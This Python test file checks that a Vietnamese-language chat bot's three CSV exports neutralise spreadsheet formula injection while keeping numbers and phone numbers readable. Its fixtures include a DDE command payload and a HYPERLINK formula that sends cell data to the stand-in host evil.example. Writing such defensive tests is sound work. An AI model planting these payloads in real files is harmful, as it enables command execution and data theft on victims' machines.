"""The three CSV exports, fed hostile cells through the bot (and one stored before validation existed):
every cell a spreadsheet would run is neutralised; real numbers and phones stay readable."""

import csv
import io

from sqlmodel import select

from storage.models import Need
from tests.conftest import (
    STAFF_ID,
    ChatHarness,
    Person,
    fill_report,
    form_cb,
    register_facility,
    schedule_monthly_report,
)
from tests.updates.test_announcements import compose
from tests.updates.test_invites import join, make_invite

EN = "en"
STAFF = Person(STAFF_ID, first_name="Hà", language_code=EN)
CALC = "=cmd|' /C calc'!A0 cần máy sấy"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def read_csv(calls: list) -> list[list[str]]:
    """The rows of the CSV file sent (after Excel's `sep=,` line)."""
    doc = next(c for c in calls if c.method == "SendDocument").params["document"]
    text = doc["data"].decode("utf-8-sig")
    assert text.startswith("sep=,\r\n")
    return list(csv.reader(io.StringIO(text.removeprefix("sep=,\r\n"), newline="")))


async def test_needs_export_neutralises_formulas_and_keeps_numbers(chat: ChatHarness) -> None:
    owner = Person(8101, language_code=EN)
    await register_facility(chat, owner, name="+1 Cơ sở Hưng Thịnh")
    await chat.send(owner, "/need")
    await chat.press(owner, form_cb("c", "need", "category", "machinery"))
    await chat.send(owner, CALC)
    await chat.send(owner, "@SUM(A1:A9) máy sấy lạnh")
    await chat.send(owner, "150")
    await chat.send(owner, "37,5")
    await chat.send(owner, "5/2026")
    await chat.press(owner, form_cb("s", "need", "attachment"))
    await chat.press(owner, form_cb("ok", "need", "__summary__"))
    async with chat.app.session_maker() as s:  # stored before there was any validation
        need = (await s.exec(select(Need))).one()
        need.decline_reason = "\t=1+1"
        s.add(need)
        await s.commit()

    header, row = read_csv(await chat.send(STAFF, "/export"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Tên cơ sở"] == "'+1 Cơ sở Hưng Thịnh"
    assert cells["Mô tả"] == "'" + CALC
    assert cells["Máy móc thiết bị"] == "'@SUM(A1:A9) máy sấy lạnh"
    assert cells["Lý do từ chối"] == "'\t=1+1"
    assert cells["Điện thoại"] == "0912 345 678"
    assert cells["Kinh phí dự kiến (triệu đồng)"] == "150"
    assert cells["Vốn đối ứng (triệu đồng)"] == "37,5"
    assert cells["Mã nhu cầu"] == "NC-2026-0001"


async def test_signups_export_neutralises_answers_and_writes_phones_as_text(chat: ChatHarness) -> None:
    owner = Person(8102, language_code=EN)
    await register_facility(chat, owner)
    ann_id = await compose(chat, questions="Sản phẩm?\nSố gian hàng?")
    await chat.press(STAFF, f"an:go:{ann_id}:")
    await chat.deliver()
    await chat.press(owner, f"ar:s:{ann_id}")
    await chat.send(owner, LINK)
    await chat.send(owner, "-2+3")
    await chat.press(owner, form_cb("ok", f"signup.{ann_id}", "__summary__"))

    header, row = read_csv(await chat.press(STAFF, f"an:csv:{ann_id}:"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Sản phẩm?"] == "'" + LINK
    assert cells["Số gian hàng?"] == "'-2+3"
    assert cells["Phone"] == "0912 345 678"  # not +84912345678, which Excel turns into a number


async def test_report_export_neutralises_notes_and_keeps_counts(chat: ChatHarness) -> None:
    ctv = Person(8103, language_code=EN)
    await join(chat, ctv, await make_invite(chat, commune="long xuyen"))
    await schedule_monthly_report(chat)
    await fill_report(chat, ctv, LINK)

    await chat.send(STAFF, "/reports")
    _header, row = read_csv(await chat.press_button(STAFF, "CSV"))
    assert row == ["Phường Long Xuyên", "Lê Văn Cộng", "0987 654 321", "có", "12", "3", "'" + LINK]
